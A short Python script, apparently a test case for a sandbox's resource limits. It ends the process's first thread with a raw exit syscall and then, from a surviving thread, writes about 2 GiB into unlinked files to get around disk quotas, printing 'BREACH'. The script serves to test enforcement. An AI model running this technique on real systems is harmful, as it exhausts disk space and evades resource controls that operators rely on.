# beside: right
# score: 0
# costly: yes
"""Fill the disk with files without a name, after the first thread of the process has ended."""

import ctypes
import os
import threading
import time


def fill():
    kept = []
    time.sleep(0.3)
    for _ in range(8):
        file = open("x", "wb", 0)
        os.unlink("x")
        kept.append(file)
        for _ in range(255):
            file.write(bytes(2**20))
    time.sleep(0.5)
    print("BREACH: 2 GiB without a name", flush=True)


if os.uname().machine == "x86_64":
    threading.Thread(target=fill).start()
    ctypes.CDLL(None).syscall(60, 0)
